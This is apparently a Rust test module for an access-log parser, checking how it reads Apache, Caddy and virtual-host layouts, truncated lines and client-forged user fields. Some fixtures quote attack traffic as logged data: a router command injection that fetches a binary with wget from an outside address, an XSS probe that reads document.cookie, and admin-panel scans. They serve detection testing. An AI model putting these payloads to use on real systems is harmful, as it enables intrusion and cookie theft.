//! Tests of [`super`]: the layouts it reads, what it keeps of lines cut short or malformed,
//! and user fields written by hostile clients.

use super::*;

#[test]
fn combined_format() {
    let line = r#"203.0.113.5 - frank [10/Oct/2000:13:55:36 -0700] "POST /api/login?x=1 HTTP/1.1" 401 23 "-" "Mozilla/5.0 (X11; \"Linux\")" 0.003"#;
    let ev = decode_line(line).unwrap();
    assert_eq!(ev.client_ip.as_deref(), Some("203.0.113.5"));
    assert_eq!(ev.username.as_deref(), Some("frank"));
    assert_eq!(ev.event_time_ms, Some(971211336000));
    assert_eq!(ev.method.as_deref(), Some("POST"));
    assert_eq!(ev.target.as_deref(), Some("/api/login?x=1"));
    assert_eq!(ev.http_version.as_deref(), Some("HTTP/1.1"));
    assert_eq!(ev.status, Some(401));
    assert_eq!(ev.response_bytes, Some(23));
    assert_eq!(
        ev.user_agent.as_deref(),
        Some(r#"Mozilla/5.0 (X11; \"Linux\")"#)
    );
}

/// Apache logs a request whose Basic credentials carry an empty name with the user `""`
/// (`mod_log_config`); such lines are Tomcat-manager guessers' (heldout36's `vuongt.log`),
/// so rejecting them would hide the attack.
#[test]
fn apache_empty_user_is_an_empty_username() {
    let ev = decode_line(
        r#"121.18.231.88 - "" [08/Dec/2016:12:24:14 +0000] "GET /manager/html HTTP/1.1" 404 1040 "-" "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; WOW64; Trident/6.0)""#,
    )
    .unwrap();
    assert_eq!(ev.client_ip.as_deref(), Some("121.18.231.88"));
    assert_eq!(ev.username.as_deref(), Some(""));
    assert_eq!(ev.target.as_deref(), Some("/manager/html"));
    assert_eq!(ev.status, Some(404));
    // With a virtual host first, and a user that is no more than quoted.
    let ev = decode_line(
        r#"www.example.org:80 192.0.2.7 - "" [08/Dec/2016:12:24:14 +0000] "GET / HTTP/1.1" 401 12 "-" "curl/8.5.0""#,
    )
    .unwrap();
    assert_eq!(ev.host.as_deref(), Some("www.example.org:80"));
    assert_eq!(ev.client_ip.as_deref(), Some("192.0.2.7"));
    assert_eq!(ev.username.as_deref(), Some(""));
    // A quoted X-Forwarded-For before the address is still skipped.
    let ev = decode_line(
        r#""198.51.100.9, 10.0.0.1" 192.0.2.8 - - [08/Dec/2016:12:24:14 +0000] "GET / HTTP/1.1" 200 12 "-" "curl/8.5.0""#,
    )
    .unwrap();
    assert_eq!(ev.client_ip.as_deref(), Some("192.0.2.8"));
    assert_eq!(ev.username, None);
}

/// Caddy's `{common}` log writes an empty user as nothing, leaving two spaces before the
/// time (heldout47's `registrar.log`: a dashboard's 401s were dead-lettered as malformed).
#[test]
fn an_empty_user_field_is_no_user() {
    let ev = decode_line(
        r#"23.81.209.116 -  [14/Aug/2019:05:31:52 +0000] "GET /network/dashboard HTTP/2.0" 401 41"#,
    )
    .unwrap();
    assert_eq!(ev.client_ip.as_deref(), Some("23.81.209.116"));
    assert_eq!(ev.username, None);
    assert_eq!(ev.target.as_deref(), Some("/network/dashboard"));
    assert_eq!(ev.status, Some(401));
    // The same behind a virtual host.
    let ev = decode_line(
        r#"www.example.org:443 23.81.209.116 -  [14/Aug/2019:05:31:52 +0000] "GET / HTTP/2.0" 401 41"#,
    )
    .unwrap();
    assert_eq!(ev.client_ip.as_deref(), Some("23.81.209.116"));
    assert_eq!(ev.host.as_deref(), Some("www.example.org:443"));
    assert_eq!(ev.username, None);
    // After three fields, two spaces change nothing: the third is the user.
    let ev =
        decode_line(r#"192.0.2.9 - frank  [14/Aug/2019:05:31:52 +0000] "GET / HTTP/2.0" 200 12"#)
            .unwrap();
    assert_eq!(ev.client_ip.as_deref(), Some("192.0.2.9"));
    assert_eq!(ev.username.as_deref(), Some("frank"));
    // One space is the usual layout: no empty field.
    let ev = decode_line(r#"192.0.2.9 - - [14/Aug/2019:05:31:52 +0000] "GET / HTTP/2.0" 200 12"#)
        .unwrap();
    assert_eq!(ev.client_ip.as_deref(), Some("192.0.2.9"));
    assert_eq!(ev.username, None);
}

/// The user field is the client's (Basic credentials' name), logged with its spaces: it
/// cannot move the client address, hide it or cost the line, whatever it holds (an
/// adversarial review's cases: a guesser naming a victim's address as its user, names
/// with spaces, brackets and a forged time).
#[test]
fn a_user_name_written_by_the_client_cannot_forge_or_hide_the_address() {
    let at = r#" [07/Apr/2021:16:47:53 +0000] "GET / HTTP/1.1" 401 179 "-" "curl/8.5.0""#;
    for (user, want_user) in [
        ("203.0.113.70 - admin", "203.0.113.70 - admin"),
        ("admin x", "admin x"),
        ("Anna Maria Rossi", "Anna Maria Rossi"),
        ("a b c d e f g h", "a b c d e f g h"),
        ("x [y", "x [y"),
        (
            "root [01/Jan/2020:00:00:00 +0000]",
            "root [01/Jan/2020:00:00:00 +0000]",
        ),
        ("- admin", "- admin"),
        (
            r#"a\x22 [01/Jan/2020:00:00:00 +0000] \x22GET"#,
            r#"a\x22 [01/Jan/2020:00:00:00 +0000] \x22GET"#,
        ),
    ] {
        let line = format!("198.51.100.40 - {user}{at}");
        let ev = decode_line(&line).unwrap_or_else(|e| panic!("{line}: {e}"));
        assert_eq!(ev.client_ip.as_deref(), Some("198.51.100.40"), "{line}");
        assert_eq!(ev.username.as_deref(), Some(want_user), "{line}");
        assert_eq!(ev.event_time_ms, Some(1617814073000), "{line}");
        assert_eq!(ev.status, Some(401), "{line}");
        // Behind a virtual host too.
        let line = format!("www.example.org:443 198.51.100.40 - {user}{at}");
        let ev = decode_line(&line).unwrap_or_else(|e| panic!("{line}: {e}"));
        assert_eq!(ev.host.as_deref(), Some("www.example.org:443"), "{line}");
        assert_eq!(ev.client_ip.as_deref(), Some("198.51.100.40"), "{line}");
        assert_eq!(ev.username.as_deref(), Some(want_user), "{line}");
    }
    // Where identd answered (the ident is not `-`), a user naming an address and a `-`
    // still cannot pass for the client.
    let line = format!("198.51.100.36 joe 203.0.113.70 - admin{at}");
    let ev = decode_line(&line).unwrap();
    assert_eq!(ev.client_ip.as_deref(), Some("198.51.100.36"));
    assert_eq!(ev.username.as_deref(), Some("203.0.113.70 - admin"));
    let line = format!("198.51.100.38 joe - x{at}");
    let ev = decode_line(&line).unwrap();
    assert_eq!(ev.client_ip.as_deref(), Some("198.51.100.38"));
    assert_eq!(ev.username.as_deref(), Some("- x"));
    let line = format!("www.example.org:443 198.51.100.39 joe alice{at}");
    let ev = decode_line(&line).unwrap();
    assert_eq!(ev.client_ip.as_deref(), Some("198.51.100.39"));
    assert_eq!(ev.host.as_deref(), Some("www.example.org:443"));
    assert_eq!(ev.username.as_deref(), Some("alice"));
    // A name of thousands of brackets is read in linear time, and is the user.
    let line = format!("198.51.100.37 - {}{at}", "[".repeat(20_000));
    let ev = decode_line(&line).unwrap();
    assert_eq!(ev.client_ip.as_deref(), Some("198.51.100.37"));
    assert_eq!(ev.username.map(|u| u.len()), Some(20_000));
    // A virtual host logged as `-` (an absent `Host`) is still the virtual host.
    let line = format!("- 198.51.100.41 - admin x{at}");
    let ev = decode_line(&line).unwrap();
    assert_eq!(ev.host, None);
    assert_eq!(ev.client_ip.as_deref(), Some("198.51.100.41"));
    assert_eq!(ev.username.as_deref(), Some("admin x"));
}

#[test]
fn common_format_without_agent() {
    let ev = decode_line(r#"127.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.0" 200 -"#)
        .unwrap();
    assert_eq!(ev.event_time_ms, Some(1704067200000));
    assert_eq!(ev.username, None);
    assert_eq!(ev.response_bytes, None);
    assert_eq!(ev.user_agent, None);
}

#[test]
fn garbage_request_line_is_kept_without_path() {
    let ev = decode_line(
        r#"198.51.100.1 - - [01/Jan/2024:00:00:00 +0000] "\x16\x03\x01" 400 157 "-" "-""#,
    )
    .unwrap();
    assert_eq!(ev.method, None);
    assert_eq!(ev.status, Some(400));
    assert_eq!(ev.target, None);
    // What was received stays, as logged (escaped), for the rules to tell the protocol.
    assert_eq!(ev.unparsed_request.as_deref(), Some(r"\x16\x03\x01"));
    // Nothing received: no unparsed request.
    let ev =
        decode_line(r#"198.51.100.1 - - [01/Jan/2024:00:00:00 +0000] "-" 400 0 "-" "-""#).unwrap();
    assert_eq!(ev.unparsed_request, None);
}

/// A line sent without its protocol (HTTP/0.9, or a router exploit written by hand, as a
/// family site's log holds one) has its method and path, and stays on record as incomplete.
#[test]
fn line_without_protocol_has_its_path_and_stays_incomplete() {
    let line = r#"198.51.100.1 - - [20/Mar/2024:21:14:43 +0300] "GET /bin/zhttpd/${IFS}cd${IFS}/tmp;${IFS}wget${IFS}http://203.0.113.9/mips;" 400 264 "-" "-""#;
    let ev = decode_line(line).unwrap();
    assert_eq!(ev.method.as_deref(), Some("GET"));
    assert_eq!(
        ev.target.as_deref(),
        Some("/bin/zhttpd/${IFS}cd${IFS}/tmp;${IFS}wget${IFS}http://203.0.113.9/mips;")
    );
    assert_eq!(ev.http_version, None);
    assert!(ev
        .unparsed_request
        .as_deref()
        .is_some_and(|u| u.starts_with("GET /bin/zhttpd/")));
}

/// A line cut short inside its user agent or referer (as pff's tests quote a real one) is
/// the request it records, with what was logged of the field.
#[test]
fn a_line_cut_inside_its_last_quoted_field_keeps_the_request() {
    let ev = decode_line(
        r#"51.75.194.66 - - [08/May/2022:07:36:00 +0200] "GET //mysqladmin/index.php?lang=en HTTP/2.0" 404 548 "http://31.179.184.210/mysqladmin/index.php?lang=en" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Apple"#,
    )
    .unwrap();
    assert_eq!(ev.status, Some(404));
    assert_eq!(ev.target.as_deref(), Some("//mysqladmin/index.php?lang=en"));
    assert_eq!(
        ev.user_agent.as_deref(),
        Some("Mozilla/5.0 (Windows NT 10.0; Win64; x64) Apple")
    );
    let ev = decode_line(
        r#"51.75.194.66 - - [08/May/2022:07:36:00 +0200] "GET / HTTP/1.1" 200 5 "https://a.example/\"x"#,
    )
    .unwrap();
    assert_eq!(ev.referer.as_deref(), Some(r#"https://a.example/\"x"#));
    assert_eq!(ev.user_agent, None);
}

/// An OpenVAS probe as logged (ossec-hids `web_rules` test, GPL-2.0): the target holds raw
/// spaces and is kept whole, so the payload reaches the rules.
#[test]
fn a_target_with_raw_spaces_is_kept_whole() {
    let ev = decode_line(
        r#"11.22.33.44 - - [01/Aug/2016:05:15:07 +0000] "GET /ariadne/www/loader.php/system/\x22><iMg src=N onerror=alert(document.cookie)> HTTP/1.1" 301 178 "-" "Mozilla/5.0 [en] (X11, U; OpenVAS 8.0.7)""#,
    )
    .unwrap();
    assert_eq!(ev.method.as_deref(), Some("GET"));
    assert_eq!(
        ev.target.as_deref(),
        Some(r#"/ariadne/www/loader.php/system/\x22><iMg src=N onerror=alert(document.cookie)>"#)
    );
}

#[test]
fn errors_name_the_bad_part_and_where() {
    let e = decode_line("hello").unwrap_err();
    assert_eq!(e.0, "no [time_local] after the client address");
    let bad_time = r#"1.2.3.4 - - [yesterday] "GET / HTTP/1.1" 200 1"#;
    let e = decode_line(bad_time).unwrap_err();
    assert!(e.0.starts_with("time_local"));
    assert_eq!(e.1, 12);
    let truncated = r#"1.2.3.4 - - [01/Jan/2024:00:00:00 +0000] "GET / HTT"#;
    assert_eq!(
        decode_line(truncated).unwrap_err().to_string(),
        "quoted request line at byte 41"
    );
}

#[test]
fn virtual_host_first_and_forwarded_list() {
    let ev = decode_line(
        r#"example.com:80 "10.5.102.222, 175.16.199.1" 10.2.1.185 - - [22/Jan/2016:13:18:29 +0000] "GET /a?q=1 HTTP/1.1" 200 25507 "-" "Amazon CloudFront""#,
    )
    .unwrap();
    assert_eq!(ev.host.as_deref(), Some("example.com:80"));
    assert_eq!(ev.client_ip.as_deref(), Some("10.2.1.185"));
    assert_eq!(ev.user_agent.as_deref(), Some("Amazon CloudFront"));
}

#[test]
fn lenient_status_sizes_and_sockets() {
    let ev = decode_line(
        r#"example.com:80 unix: - - [26/Feb/2019:15:39:42 +0100] "OPTIONS / HTTP/1.1" - x"#,
    )
    .unwrap();
    assert_eq!(ev.client_ip, None);
    assert_eq!(ev.status, None);
    assert_eq!(ev.response_bytes, None);
    assert_eq!(ev.method.as_deref(), Some("OPTIONS"));
}
